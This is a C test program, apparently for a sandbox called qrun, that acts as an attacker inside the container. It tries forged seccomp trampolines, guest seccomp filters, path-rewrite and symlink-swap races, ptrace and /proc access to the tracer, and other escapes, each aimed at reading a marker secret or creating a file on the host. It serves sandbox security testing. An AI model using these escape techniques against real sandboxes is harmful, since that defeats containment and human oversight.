/*
 * escape: an attacker inside a qrun container, for t307-escapes.sh. Built by the test itself
 * (static, x86_64, non-PIE: the i386 ABI needs buffers below 4 GiB) and run inside the rootfs.
 *
 * Every technique takes DIR, the host directory outside the rootfs that holds `marker` (a
 * secret), and tries both to read DIR/marker and to create a file in DIR (named
 * created-<technique>-...). It prints one line per attempt: "WHAT: refused: <strerror>" or
 * "WHAT: ESCAPED: <what it got>" (file contents included, so that the test finds the secret in
 * the output), and exits 3 when anything got through, 0 when everything was refused.
 *
 * One program for every technique (as t302's probe.c), so over 1,000 lines: the test builds it
 * once, and each technique is a few functions of its own below.
 *
 * In the guest (one technique per run):
 *   forged-trampoline DIR        map our own `syscall; ret` page at the shim's trampoline
 *                                address (the seccomp filter lets calls from there through):
 *                                open, openat, creat, mkdir, openat2
 *   seccomp-trace-data DIR       a guest filter answering SECCOMP_RET_TRACE with other data
 *   seccomp-user-notif DIR       a guest filter with SECCOMP_RET_USER_NOTIF (outranks TRACE),
 *                                answered CONTINUE by a thread of ours
 *   scratch-race DIR SECS        a thread rewrites the translated path the tracer put below
 *                                another thread's stack pointer
 *   scratch-vmwritev DIR SECS    the same from a forked sibling with process_vm_writev
 *   symlink-swap DIR SECS        renameat2(RENAME_EXCHANGE) of a directory (and of a file)
 *                                with a symlink to the host while another thread opens and
 *                                creates through it (check-then-use, and the single-name fast
 *                                path that lets a name relative to a dirfd through)
 *   ptrace-tracer DIR            ptrace, process_vm_*, /proc/PID/{mem,fd,cwd,root,environ} of
 *                                qrun itself
 *   proc-pid-fd DIR PID          the same on a host process (not a tracee) that holds DIR as
 *                                fd 3, the marker as fd 4 and DIR as its cwd; pidfd_getfd
 *   inherited-fd DIR             fds 3..20 that qrun may have let through
 *   proc-sys-write DIR           open /proc/sys, /proc/sysrq-trigger, /sys files for writing
 *                                (closed at once: never a byte is written)
 *   caps [MAX]                   CapEff/CapPrm beyond MAX (hex; docker's default a80425fb)
 *   io-uring DIR                 IORING_OP_OPENAT of the host path
 *   clone-untraced DIR           clone and clone3 with CLONE_UNTRACED
 *   open-by-handle DIR FH FH     open_by_handle_at with handles of DIR/marker and DIR made on
 *                                the host (`handle`); needs CAP_DAC_READ_SEARCH
 *   dotdot DIR                   `..` past the root: chdir, openat on a dirfd of /,
 *                                /proc/self/root/.., /proc/self/cwd/.., /proc/self/fd/N/..
 *   int80 DIR                    the i386 ABI (int $0x80) and the x32 ABI
 *   unix-path DIR                connect to DIR/host.sock, bind a socket in DIR
 *   abstract NAME                connect to the abstract unix socket @NAME
 *   host-signal PID              kill(PID, 0) and SIGCONT to a host process
 *   block-device DIR             open the host's block device of the rootfs, mknod one in the
 *                                rootfs and open it, and open /dev/mem (never read or write)
 *
 * On the host, helpers for the test:
 *   serve ADDR SECRET            unix stream server (ADDR, or @NAME for an abstract one) that
 *                                writes SECRET to every client
 *   handle PATH                  print PATH's file handle as TYPE:HEX (name_to_handle_at)
 *   landlock-abi                 print the kernel's Landlock ABI version (0: none)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../forged-trampoline.h"

/* preload/preload.h: QRUN_PRELOAD_TRAMPOLINE (kept here so that the guest needs no tree). */
#define TRAMPOLINE 0x5f5f00000000UL
#define ESCAPED	   3
#define X32_BIT	   0x40000000L

#ifndef SYS_openat2
#define SYS_openat2 437
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_landlock_create_ruleset
#define SYS_landlock_create_ruleset 444
#endif
#ifndef CLONE_UNTRACED
#define CLONE_UNTRACED 0x00800000
#endif

static const char *dir; /* the host directory with the marker */
static int escaped;

/* DIR/name, in one of a few rotating buffers (static: below 4 GiB for int $0x80). */
static char *host(const char *name)
{
	static char buf[8][4096];
	static int i;
	char *b = buf[i++ % 8];

	(void)snprintf(b, sizeof(buf[0]), "%s/%s", dir, name);
	return b;
}

/* libc's -1/errno as the kernel's -errno */
static long sys(long r)
{
	return r < 0 ? -errno : r;
}

static void refused(const char *what, long err)
{
	printf("%s: refused: %s\n", what, strerror((int)-err));
}

static void escape(const char *what, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void escape(const char *what, const char *fmt, ...)
{
	va_list ap;

	printf("%s: ESCAPED: ", what);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	escaped = 1;
}

/* Text of up to n bytes, with NULs and newlines as spaces (environ, a marker). */
static const char *text(char *buf, ssize_t n)
{
	for (ssize_t i = 0; i < n; i++) {
		if (buf[i] == '\0' || buf[i] == '\n')
			buf[i] = ' ';
	}
	buf[n > 0 ? n : 0] = '\0';
	return buf;
}

/* An attempt to open a host file for reading: fd (or -errno); success is an escape. */
static void got_read(const char *what, long fd)
{
	char buf[1024];
	struct stat st;
	ssize_t n;

	if (fd < 0) {
		refused(what, fd);
		return;
	}
	if (fstat((int)fd, &st) == 0 && S_ISDIR(st.st_mode)) {
		escape(what, "opened a host directory");
	} else {
		n = pread((int)fd, buf, sizeof(buf) - 1, 0);
		if (n < 0)
			n = read((int)fd, buf, sizeof(buf) - 1);
		escape(what, "read \"%s\"", text(buf, n));
	}
	close((int)fd);
}

/* An attempt to create a host file: fd (or -errno); success is an escape. */
static void got_create(const char *what, long fd)
{
	if (fd < 0) {
		refused(what, fd);
		return;
	}
	(void)!write((int)fd, "escaped\n", 8);
	close((int)fd);
	escape(what, "created");
}

/* An attempt that returns 0 on success (mkdir, bind, kill). */
static void got_zero(const char *what, long r, const char *done)
{
	if (r < 0)
		refused(what, r);
	else
		escape(what, "%s", done);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- 1. a forged shim trampoline ------------------------------------------------------- */

static int forged_trampoline(void)
{
	static const struct open_how how_read = { .flags = O_RDONLY };
	static const struct open_how how_create = { .flags = O_WRONLY | O_CREAT | O_EXCL,
						    .mode = 0644 };
	long (*call)(long, long, long, long, long);
	struct stat st;
	void *page;
	long r;

	/* mmap and mprotect are never traced: nothing stops a guest from mapping this page. */
	page = mmap((void *)TRAMPOLINE, 2 * 4096, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (page == MAP_FAILED) {
		refused("mmap of the trampoline page", -errno);
		return 0;
	}
	memcpy(page, forged_trampoline_code, sizeof(forged_trampoline_code));
	if (mprotect(page, 4096, PROT_READ | PROT_EXEC) < 0) {
		refused("mprotect of the trampoline page", -errno);
		return 0;
	}
	call = (long (*)(long, long, long, long, long))page;
	got_read("open() through the forged trampoline",
		 call(SYS_open, (long)host("marker"), O_RDONLY, 0, 0));
	got_read("openat() through the forged trampoline",
		 call(SYS_openat, AT_FDCWD, (long)host("marker"), O_RDONLY, 0));
	got_create("creat() through the forged trampoline",
		   call(SYS_creat, (long)host("created-trampoline-creat"), 0644, 0, 0));
	got_create("openat(O_CREAT) through the forged trampoline",
		   call(SYS_openat, AT_FDCWD, (long)host("created-trampoline-openat"),
			O_WRONLY | O_CREAT | O_EXCL, 0644));
	got_zero("mkdir() through the forged trampoline",
		 call(SYS_mkdir, (long)host("created-trampoline-dir"), 0755, 0, 0), "made");
	/* openat2 and the calls that only look are what the shim itself makes from the page */
	got_read(
	    "openat2() through the forged trampoline",
	    call(SYS_openat2, AT_FDCWD, (long)host("marker"), (long)&how_read, sizeof(how_read)));
	got_create("openat2(O_CREAT) through the forged trampoline",
		   call(SYS_openat2, AT_FDCWD, (long)host("created-trampoline-openat2"),
			(long)&how_create, sizeof(how_create)));
	/* information only (a host file's size), not counted: no content, nothing made */
	r = call(SYS_newfstatat, AT_FDCWD, (long)host("marker"), (long)&st, 0);
	printf("note: newfstatat() of the host marker through the forged trampoline: %s\n",
	       r < 0 ? strerror((int)-r) : "it exists");
	return 0;
}

/* ---- 2, 3. a seccomp filter of the guest's own ------------------------------------------- */

/* Install a filter answering `action` for open, openat, creat and mkdir (x86_64 only). */
static long guest_filter(uint32_t action, unsigned int flags)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_open, 4, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_creat, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdir, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, action),
	};
	struct sock_fprog prog = { .len = sizeof(f) / sizeof(f[0]), .filter = f };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return -errno;
	return sys(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog));
}

/* The four calls the filter catches, each with the host path. */
static void filtered_calls(const char *how)
{
	char what[128];

	(void)snprintf(what, sizeof(what), "openat() %s", how);
	got_read(what, sys(syscall(SYS_openat, AT_FDCWD, host("marker"), O_RDONLY)));
	(void)snprintf(what, sizeof(what), "open() %s", how);
	got_read(what, sys(syscall(SYS_open, host("marker"), O_RDONLY)));
	(void)snprintf(what, sizeof(what), "creat() %s", how);
	got_create(what, sys(syscall(SYS_creat, host("created-filter-creat"), 0644)));
	(void)snprintf(what, sizeof(what), "openat(O_CREAT) %s", how);
	got_create(what, sys(syscall(SYS_openat, AT_FDCWD, host("created-filter-openat"),
				     O_WRONLY | O_CREAT | O_EXCL, 0644)));
	(void)snprintf(what, sizeof(what), "mkdir() %s", how);
	got_zero(what, sys(syscall(SYS_mkdir, host("created-filter-dir"), 0755)), "made");
}

static int seccomp_trace_data(void)
{
	/* Among equal actions the newest filter's data wins: the tracer sees 0x1234, not its own */
	long r = guest_filter(SECCOMP_RET_TRACE | 0x1234, 0);

	if (r < 0) {
		refused("install a RET_TRACE|0x1234 filter", r);
		return 0;
	}
	filtered_calls("under a guest RET_TRACE|0x1234 filter");
	return 0;
}

static void *notif_answer(void *arg)
{
	int fd = *(int *)arg;

	for (;;) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;

		memset(&req, 0, sizeof(req)); /* RECV wants it zeroed */
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

static int seccomp_user_notif(void)
{
	static int fd;
	pthread_t t;
	long r = guest_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);

	if (r < 0) {
		refused("install a USER_NOTIF filter", r);
		return 0;
	}
	fd = (int)r;
	if (pthread_create(&t, NULL, notif_answer, &fd)) {
		refused("start the listener thread", -EAGAIN);
		return 0;
	}
	filtered_calls("under a guest USER_NOTIF filter answered CONTINUE");
	return 0; /* the listener thread dies with the process */
}

/* ---- 4. rewriting the tracer's scratch copy of a path ------------------------------------ */

/*
 * The victim thread makes raw openat calls and nothing else (no call, no stack use), so all
 * memory below its stack pointer is free for the attacker to overwrite, over and over, with
 * "//////...///DIR/NAME": wherever below sp-128 the tracer puts its translated path, the
 * kernel then reads the host path.
 */
static struct {
	const char *path; /* what the victim opens (a guest path) */
	int flags;
	ino_t decoy; /* creating: the guest file the victim normally opens */
	char fill[4000];
	volatile uintptr_t sp;
	volatile int stop;
	volatile long fd; /* what the victim got that was not the guest's */
	volatile long tries;
} race;
static struct stat race_st; /* static: the victim's frame must not be below its sp */

__attribute__((always_inline)) static inline long raw(long nr, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return ret;
}

__attribute__((noinline)) static void *victim(void *arg)
{
	uintptr_t sp;
	long fd;

	(void)arg;
	__asm__ volatile("mov %%rsp, %0" : "=r"(sp));
	race.sp = sp;
	while (!race.stop) {
		fd = raw(SYS_openat, AT_FDCWD, (long)race.path, race.flags, 0644);
		race.tries++;
		if (fd < 0)
			continue;
		if ((race.flags & O_CREAT) && raw(SYS_fstat, fd, (long)&race_st, 0, 0) == 0 &&
		    race_st.st_ino == race.decoy) {
			raw(SYS_close, fd, 0, 0, 0); /* the guest's own file: go on */
			continue;
		}
		race.fd = fd;
		break;
	}
	race.stop = 1;
	return NULL;
}

/*
 * Is fd's file one of the guest's own: "/" or "/tmp" themselves, or an entry of either? A
 * path torn between the tracer's copy and the attacker's can name such a file (the tracer's
 * rootfs prefix, then the tail of the attacker's name): the wall allows that, and it is no
 * escape. Such a file is removed again when it was created. Anything else is the host's.
 */
static bool inside_guest(int fd, bool created)
{
	static const char *const dirs[] = { "/", "/tmp" };
	struct stat st, e;

	if (fstat(fd, &st) < 0)
		return false;
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		DIR *d = opendir(dirs[i]);
		struct dirent *de;

		if (!d)
			continue;
		if (fstat(dirfd(d), &e) == 0 && e.st_dev == st.st_dev && e.st_ino == st.st_ino) {
			closedir(d);
			return true;
		}
		while ((de = readdir(d))) {
			if (fstatat(dirfd(d), de->d_name, &e, AT_SYMLINK_NOFOLLOW) == 0 &&
			    e.st_dev == st.st_dev && e.st_ino == st.st_ino) {
				printf("(a torn path named the guest's own %s/%s)\n",
				       strcmp(dirs[i], "/") ? dirs[i] : "", de->d_name);
				if (created)
					(void)unlinkat(dirfd(d), de->d_name, 0);
				closedir(d);
				return true;
			}
		}
		closedir(d);
	}
	return false;
}

/* One phase of the race: the victim opens path with flags, the attacker writes DIR/name. */
static void scratch_phase(const char *what, const char *path, int flags, const char *name,
			  double secs, bool sibling)
{
	size_t span = sizeof(race.fill), hlen = strlen(host(name));
	double end = now() + secs;
	pthread_attr_t attr;
	pid_t parent = getpid(), child = -1;
	pthread_t t;
	char *lo;

	race.path = path;
	race.flags = flags;
	race.stop = 0;
	race.fd = -1;
	race.tries = 0;
	race.sp = 0;
	memset(race.fill, '/', span);
	memcpy(race.fill + span - hlen - 1, host(name), hlen + 1);
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 1 << 20);
	if (pthread_create(&t, &attr, victim, NULL)) {
		refused(what, -EAGAIN);
		return;
	}
	while (!race.sp)
		sched_yield();
	/* Below the red zone (128 bytes under sp) is where the tracer puts translated paths. */
	lo = (char *)(race.sp - 128 - span);
	if (sibling) {
		fflush(stdout);
		child = fork();
		if (child == 0) {
			struct iovec l = { race.fill, span }, r = { lo, span };

			while (now() < end) {
				if (process_vm_writev(parent, &l, 1, &r, 1, 0) < 0) {
					printf("%s: process_vm_writev of the sibling: %s\n", what,
					       strerror(errno));
					fflush(stdout);
					_exit(1);
				}
			}
			_exit(0);
		}
		while (!race.stop && now() < end)
			usleep(10000);
		if (child > 0) {
			kill(child, SIGKILL);
			waitpid(child, NULL, 0);
		}
	} else {
		while (!race.stop && now() < end) {
			for (int i = 0; i < 1000 && !race.stop; i++)
				memcpy(lo, race.fill, span);
		}
	}
	race.stop = 1;
	pthread_join(t, NULL);
	if (race.fd >= 0 && inside_guest((int)race.fd, flags & O_CREAT)) {
		close((int)race.fd);
		printf("%s: held (%ld opens; the one that got through stayed in the guest)\n", what,
		       race.tries);
	} else if (race.fd >= 0)
		(flags & O_CREAT) ? got_create(what, race.fd) : got_read(what, race.fd);
	else
		printf("%s: held (%ld opens)\n", what, race.tries);
}

static int scratch_race(double secs, bool sibling)
{
	const char *how = sibling ? "process_vm_writev from a sibling" : "another thread";
	char what[160];
	struct stat st;
	int fd;

	/* reading: the guest path does not exist, so any fd is the host's */
	(void)snprintf(what, sizeof(what), "open of a missing guest file, path rewritten by %s",
		       how);
	scratch_phase(what, "/tmp/t307-absent", O_RDONLY, "marker", secs / 2, sibling);
	/* creating: the guest file exists; an fd on any other inode is a host file we created */
	fd = open("/tmp/t307-decoy", O_WRONLY | O_CREAT, 0644);
	if (fd < 0 || fstat(fd, &st) < 0) {
		refused("create /tmp/t307-decoy", -errno);
		return 0;
	}
	close(fd);
	race.decoy = st.st_ino;
	(void)snprintf(what, sizeof(what), "O_CREAT of a guest file, path rewritten by %s", how);
	scratch_phase(what, "/tmp/t307-decoy", O_WRONLY | O_CREAT,
		      sibling ? "created-vmwritev" : "created-scratch", secs / 2, sibling);
	return 0;
}

/* ---- 5. a directory (and a file) swapped with a symlink to the host ------------------------ */

static volatile int swap_stop;

static void exchange(const char *a, const char *b)
{
	(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void *swapper(void *arg)
{
	(void)arg;
	while (!swap_stop) {
		exchange("/tmp/t307-d", "/tmp/t307-s");
		exchange("/tmp/t307-f", "/tmp/t307-l");
		exchange("/tmp/t307-f2", "/tmp/t307-l2");
	}
	return NULL;
}

/* Leave NAME the real thing again (not the symlink), whatever the last exchange did. */
static void unswap(const char *name, const char *link)
{
	struct stat st;

	if (lstat(name, &st) == 0 && S_ISLNK(st.st_mode))
		exchange(name, link);
}

/*
 * Remove a leftover of an earlier run: a file, a symlink (never followed: it may lead to the
 * host) or a directory of files.
 */
static void rm_tree(const char *path)
{
	char sub[4096];
	struct dirent *e;
	struct stat st;
	DIR *d;

	if (lstat(path, &st) < 0)
		return;
	if (!S_ISDIR(st.st_mode)) {
		(void)unlink(path);
		return;
	}
	d = opendir(path);
	while (d && (e = readdir(d))) {
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) {
			(void)snprintf(sub, sizeof(sub), "%s/%s", path, e->d_name);
			(void)unlink(sub);
		}
	}
	if (d)
		closedir(d);
	(void)rmdir(path);
}

static int write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd < 0)
		return -errno;
	(void)!write(fd, s, strlen(s));
	close(fd);
	return 0;
}

/* Read fd; true when it is the guest's decoy. */
static bool is_decoy(int fd, char *buf, size_t size)
{
	ssize_t n = read(fd, buf, size - 1);

	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return strcmp(buf, "decoy\n") == 0;
}

/*
 * The pairs the swapper exchanges, made afresh: a directory (with a decoy marker) and a link to
 * DIR, a decoy file and a link to DIR/marker, a decoy file and a dangling link into DIR. Sets
 * *ret_f2 to the inode of the second decoy file; -errno on failure.
 */
static int swap_setup(ino_t *ret_f2)
{
	static const char *const names[] = { "/tmp/t307-d", "/tmp/t307-s",  "/tmp/t307-f",
					     "/tmp/t307-l", "/tmp/t307-f2", "/tmp/t307-l2" };
	struct stat st;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		rm_tree(names[i]);
	if (mkdir("/tmp/t307-d", 0755) < 0 || write_file("/tmp/t307-d/marker", "decoy\n") < 0 ||
	    write_file("/tmp/t307-f", "decoy\n") < 0 || write_file("/tmp/t307-f2", "decoy\n") < 0 ||
	    symlink(dir, "/tmp/t307-s") < 0 || symlink(host("marker"), "/tmp/t307-l") < 0 ||
	    symlink(host("created-swap-last"), "/tmp/t307-l2") < 0 || stat("/tmp/t307-f2", &st))
		return -errno;
	*ret_f2 = st.st_ino;
	return 0;
}

static int symlink_swap(double secs)
{
	long reads = 0, created = 0, found = 0, tries = 0;
	double end = now() + secs;
	char buf[256], name[64];
	struct stat st;
	struct dirent *e;
	pthread_t t;
	int tmp, fd, r;
	ino_t f2 = 0;
	DIR *d;

	r = swap_setup(&f2);
	if (r < 0) {
		refused("set up the directories and links in /tmp", r);
		return 0;
	}
	tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
	if (tmp < 0 || pthread_create(&t, NULL, swapper, NULL)) {
		refused("start the swapper", -errno);
		return 0;
	}
	while (now() < end) {
		switch (tries++ % 4) {
		case 0: /* a directory on the way: resolved by the tracer, then by the kernel */
			fd = open("/tmp/t307-d/marker", O_RDONLY);
			if (fd >= 0 && !is_decoy(fd, buf, sizeof(buf)))
				escape("open /tmp/t307-d/marker while swapped", "read \"%s\"",
				       text(buf, (ssize_t)strlen(buf)));
			reads += fd >= 0;
			break;
		case 1:
			(void)snprintf(name, sizeof(name), "/tmp/t307-d/new-%ld", tries);
			fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0644);
			if (fd >= 0) {
				created++;
				close(fd);
			}
			break;
		case 2: /* one name relative to a dirfd: the tracer's fast path */
			fd = openat(tmp, "t307-f", O_RDONLY);
			if (fd >= 0 && !is_decoy(fd, buf, sizeof(buf)))
				escape("openat(dirfd of /tmp, t307-f) while swapped", "read \"%s\"",
				       text(buf, (ssize_t)strlen(buf)));
			reads += fd >= 0;
			break;
		case 3:
			fd = openat(tmp, "t307-f2", O_WRONLY | O_CREAT, 0644);
			if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino != f2)
				escape("openat(dirfd of /tmp, t307-f2, O_CREAT) while swapped",
				       "created");
			if (fd >= 0)
				close(fd);
			break;
		}
		if (escaped)
			break;
	}
	swap_stop = 1;
	pthread_join(t, NULL);
	unswap("/tmp/t307-d", "/tmp/t307-s");
	unswap("/tmp/t307-f", "/tmp/t307-l");
	unswap("/tmp/t307-f2", "/tmp/t307-l2");
	/* Every creation that succeeded but is not in the real directory landed elsewhere. */
	d = opendir("/tmp/t307-d");
	while (d && (e = readdir(d)))
		found += strncmp(e->d_name, "new-", 4) == 0;
	if (d)
		closedir(d);
	if (created > found)
		escape("create /tmp/t307-d/new-N while swapped",
		       "%ld of %ld creations are not in the guest's directory", created - found,
		       created);
	printf("symlink-swap: %ld attempts, %ld decoy reads, %ld guest creations\n", tries, reads,
	       found);
	return 0;
}

/* ---- 6, 7. processes that are not tracees: qrun itself, a host process -------------------- */

/* The pid in "TracerPid:" of /proc/self/status (qrun), or the parent. */
static pid_t tracer_pid(void)
{
	char line[256];
	long pid = 0;
	FILE *f = fopen("/proc/self/status", "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "TracerPid: %ld", &pid) == 1)
			break;
	}
	if (f)
		fclose(f);
	return pid > 0 ? (pid_t)pid : getppid();
}

/*
 * PTRACE_SEIZE, then PTRACE_ATTACH; on success stop it and detach at once. Every signal stays
 * blocked meanwhile: we are qrun's tracee, so a signal delivered to us (the SIGCHLD of our new
 * tracee stopping) would stop us until qrun resumes us, and qrun would be stopped by us.
 */
static void try_ptrace(const char *who, pid_t pid)
{
	sigset_t all, old;
	char what[128];
	int st = 0;
	long r;

	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, &old);
	(void)snprintf(what, sizeof(what), "PTRACE_SEIZE or PTRACE_ATTACH of %s", who);
	r = sys(ptrace(PTRACE_SEIZE, pid, 0, 0));
	if (r == 0 && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 &&
	    waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st))
		/* a signal-delivery stop passes its signal on; our trap stop passes none */
		(void)ptrace(PTRACE_DETACH, pid, 0, (st >> 16) ? 0 : WSTOPSIG(st));
	if (r < 0) {
		r = sys(ptrace(PTRACE_ATTACH, pid, 0, 0));
		if (r == 0 && waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st))
			(void)ptrace(PTRACE_DETACH, pid, 0,
				     WSTOPSIG(st) == SIGSTOP ? 0 : WSTOPSIG(st));
	}
	sigprocmask(SIG_SETMASK, &old, NULL);
	if (r == 0)
		escape(what, "attached (and detached again)");
	else
		refused(what, r);
}

/*
 * process_vm_readv/writev at an address that is never mapped (below mmap_min_addr): EFAULT
 * means the permission check passed (nothing is read or written), EPERM that it did not.
 */
static void try_vm(const char *who, pid_t pid)
{
	char buf[16], what[128];
	struct iovec l = { buf, sizeof(buf) }, r = { (void *)0x1000, sizeof(buf) };
	long n;

	(void)snprintf(what, sizeof(what), "process_vm_readv of %s", who);
	n = sys(process_vm_readv(pid, &l, 1, &r, 1, 0));
	if (n >= 0 || n == -EFAULT)
		escape(what, "allowed (%s at an unmapped address)", strerror((int)-n));
	else
		refused(what, n);
	(void)snprintf(what, sizeof(what), "process_vm_writev of %s", who);
	n = sys(process_vm_writev(pid, &l, 1, &r, 1, 0));
	if (n >= 0 || n == -EFAULT)
		escape(what, "allowed (%s at an unmapped address)", strerror((int)-n));
	else
		refused(what, n);
}

/* Open proc/PID/name; success is an escape (environ and files are printed). */
static void try_proc_file(pid_t pid, const char *name, int flags)
{
	char path[128], what[160], buf[4096];
	long fd;
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	(void)snprintf(what, sizeof(what), "open %s%s", path,
		       (flags & O_ACCMODE) == O_RDWR ? " for writing" : "");
	fd = sys(open(path, flags | O_NONBLOCK | O_NOCTTY));
	if (fd < 0) {
		refused(what, fd);
		return;
	}
	n = (flags & O_ACCMODE) == O_RDWR ? 0 : read((int)fd, buf, sizeof(buf) - 1);
	close((int)fd);
	if (strcmp(name, "environ") == 0) {
		/* only the test's own variables (T307_*): the rest is noise in the log */
		char *e, keep[1024] = "";

		buf[n > 0 ? n : 0] = '\0';
		for (e = buf; e < buf + (n > 0 ? n : 0); e += strlen(e) + 1) {
			if (strncmp(e, "T307_", 5) == 0 &&
			    strlen(keep) + strlen(e) + 2 < sizeof(keep))
				strcat(strcat(keep, e), " ");
		}
		escape(what, "read its environment: %s", keep);
		return;
	}
	escape(what, "opened \"%s\"", text(buf, n));
}

/* The objects behind /proc/PID/fd/N, and relative to directories among them. */
static void try_proc_fds(pid_t pid, const char *who)
{
	char path[320], what[400];
	struct dirent *e;
	struct stat st;
	DIR *d;
	long fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d) {
		(void)snprintf(what, sizeof(what), "list %s (%s)", path, who);
		refused(what, -errno);
		return;
	}
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
		(void)snprintf(what, sizeof(what), "open %s (%s)", path, who);
		fd = sys(open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY));
		if (fd < 0) {
			refused(what, fd);
			continue;
		}
		if (fstat((int)fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			escape(what, "a directory");
			got_read("  openat(it, marker)", sys(openat((int)fd, "marker", O_RDONLY)));
			got_create("  openat(it, created-procfd-N, O_CREAT)",
				   sys(openat((int)fd, "created-procfd-N",
					      O_WRONLY | O_CREAT | O_EXCL, 0644)));
			close((int)fd);
		} else if (S_ISREG(st.st_mode)) {
			got_read(what, fd);
		} else {
			escape(what, "opened (mode %o)", st.st_mode);
			close((int)fd);
		}
	}
	closedir(d);
}

/* Paths below /proc/PID/{cwd,root,fd/N}: the host directory they stand for. */
static void try_proc_paths(pid_t pid, const char *fdname, const char *tag)
{
	char path[4096], what[4200], name[64];

	if (fdname) {
		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%s/marker", pid, fdname);
		got_read(path, sys(open(path, O_RDONLY)));
		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%s/created-%s-fd", pid, fdname,
			       tag);
		got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	}
	(void)snprintf(path, sizeof(path), "/proc/%d/cwd/marker", pid);
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "/proc/%d/task/%d/cwd/marker", pid, pid);
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "/proc/%d/cwd/created-%s-cwd", pid, tag);
	got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	(void)snprintf(path, sizeof(path), "/proc/%d/root%s", pid, host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(name, sizeof(name), "created-%s-root", tag);
	(void)snprintf(path, sizeof(path), "/proc/%d/root%s", pid, host(name));
	got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	/* the kernel cwd made the host directory, then a single name: the fast path */
	(void)snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
	(void)snprintf(what, sizeof(what), "chdir(%s) then open marker", path);
	if (chdir(path) == 0) {
		got_read(what, sys(open("marker", O_RDONLY)));
		(void)snprintf(name, sizeof(name), "created-%s-chdir", tag);
